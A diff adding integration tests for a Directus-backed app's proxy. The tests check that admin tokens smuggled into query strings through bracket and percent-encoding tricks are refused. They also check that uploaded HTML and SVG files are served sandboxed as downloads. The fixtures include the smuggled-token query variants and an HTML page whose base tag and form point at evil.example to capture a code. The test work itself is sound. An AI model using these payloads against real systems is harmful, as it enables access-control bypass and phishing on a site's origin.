@@ -48,6 +48,15 @@ async function directusAdmin<T>(method: string, path: string, body?: unknown): P
   return response.status === 204 ? (undefined as T) : ((await response.json()) as { data: T }).data;
 }
 
+/** Uploads a file as the admin (members may read every file: the local seed). */
+async function uploadAsAdmin(name: string, type: string, content: string): Promise<string> {
+  const form = new FormData();
+  form.append('file', new Blob([content], { type }), name);
+  const response = await fetch(`${stack.directusUrl}/files`, { method: 'POST', headers: { Authorization: `Bearer ${ADMIN}` }, body: form });
+  if (!response.ok) throw new Error(`Directus POST /files: ${response.status}`);
+  return ((await response.json()) as { data: { id: string } }).data.id;
+}
+
 let ada: ReturnType<typeof apiClient>;
 let imageId: string;
 
@@ -200,6 +209,89 @@ describe('what never passes', () => {
     // Directus refuses a token in the query and the header together (400): a 200 shows it got one.
     const withQueryToken = await ada.get(`/api/directus/items/member_news?fields=id&access_token=${ADMIN}`);
     expect(withQueryToken.status).toBe(200);
+  });
+});
+
+// Directus reads its query with qs, for which a key that starts with a bracket group takes that
+// group's name: `[access_token]=T` is access_token to Directus, and T its credential.
+describe('a token smuggled into the query', () => {
+  const SMUGGLED = [`access_token=${ADMIN}`, `[access_token]=${ADMIN}`, `%5Baccess_token%5D=${ADMIN}`, `%5baccess_token%5d=${ADMIN}`, `[access_token][x]=${ADMIN}`, `%61ccess_token[]=${ADMIN}`];
+  const STAFF_ONLY = 'staff_notes';
+
+  beforeAll(async () => {
+    const collections = await directusAdmin<{ collection: string }[]>('GET', '/collections?fields=collection');
+    if (!collections.some(({ collection }) => collection === STAFF_ONLY)) await directusAdmin('POST', '/collections', { collection: STAFF_ONLY, schema: {}, meta: {} });
+  });
+
+  it.each(SMUGGLED)('gives the member only their own rights on a collection they may not read: ?%s', async (query) => {
+    const answer = await ada.get(`/api/directus/items/${STAFF_ONLY}?${query}`);
+    expect(answer.status).toBe(403);
+    expect(answer.body.error.code).toBe('forbidden');
+  });
+
+  describe('on a file the member may not read', () => {
+    // Members read every file in the local seed; here, for a while, they read none.
+    let memberFilesRead: { id: number; policy: string };
+    beforeAll(async () => {
+      const [memberNews] = await directusAdmin<{ policy: string }[]>('GET', '/permissions?fields=policy&filter[collection][_eq]=member_news&filter[action][_eq]=read');
+      const [files] = await directusAdmin<{ id: number; policy: string }[]>(
+        'GET',
+        `/permissions?fields=id,policy&filter[collection][_eq]=directus_files&filter[action][_eq]=read&filter[policy][_eq]=${memberNews!.policy}`,
+      );
+      memberFilesRead = files!;
+      await directusAdmin('DELETE', `/permissions/${memberFilesRead.id}`);
+    });
+    afterAll(() => directusAdmin('POST', '/permissions', { policy: memberFilesRead.policy, collection: 'directus_files', action: 'read', fields: ['*'] }));
+
+    it('refuses the member the file', async () => {
+      const answer = await ada.get(`/api/directus/assets/${imageId}`);
+      expect(answer.status).toBe(403);
+    });
+
+    // The first request for a file carries no Authorization: a smuggled token would be the only one.
+    it.each(SMUGGLED)('still refuses it with ?%s', async (query) => {
+      const answer = await ada.get(`/api/directus/assets/${imageId}?${query}`);
+      expect(answer.status).toBe(403);
+      expect(answer.body.error.code).toBe('forbidden');
+    });
+  });
+});
+
+// An uploaded document served on this origin could pose as the site's own page (a sign-in form
+// posting elsewhere, reachable as /login?next=/api/directus/assets/<id>).
+describe('files on the app’s origin', () => {
+  let pageId: string;
+  let drawingId: string;
+  beforeAll(async () => {
+    pageId = await uploadAsAdmin('page.html', 'text/html', '<!doctype html><base href="https://evil.example/"><form action="/steal"><input name="code"></form>');
+    drawingId = await uploadAsAdmin('drawing.svg', 'image/svg+xml', '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>');
+  });
+
+  const asset = async (id: string) => {
+    const response = await fetch(`${stack.appUrl}/api/directus/assets/${id}`, { headers: { Cookie: ada.cookie! } });
+    const body = await response.text();
+    return { status: response.status, headers: response.headers, body };
+  };
+
+  it('serves them sandboxed: no scripts, no forms, no <base>', async () => {
+    for (const id of [pageId, drawingId, imageId]) {
+      const { status, headers } = await asset(id);
+      expect(status).toBe(200);
+      const policy = (headers.get('content-security-policy') ?? '').split(/\s*;\s*/);
+      expect(policy).toEqual(expect.arrayContaining(["default-src 'none'", "form-action 'none'", "base-uri 'none'", "frame-ancestors 'none'", 'sandbox']));
+      expect(headers.get('x-content-type-options')).toBe('nosniff');
+    }
+  });
+
+  it('sends HTML and SVG as downloads, and keeps pictures inline', async () => {
+    const page = await asset(pageId);
+    expect(page.headers.get('content-type')).toMatch(/^text\/html/);
+    expect(page.headers.get('content-disposition')).toMatch(/^attachment; filename="page\.html"/);
+    expect(page.body).toContain('<form');
+    expect((await asset(drawingId)).headers.get('content-disposition')).toMatch(/^attachment; filename="drawing\.svg"/);
+    const picture = await asset(imageId);
+    expect(picture.headers.get('content-type')).toBe('image/png');
+    expect(picture.headers.get('content-disposition')).toMatch(/^inline\b/);
   });
 });
 
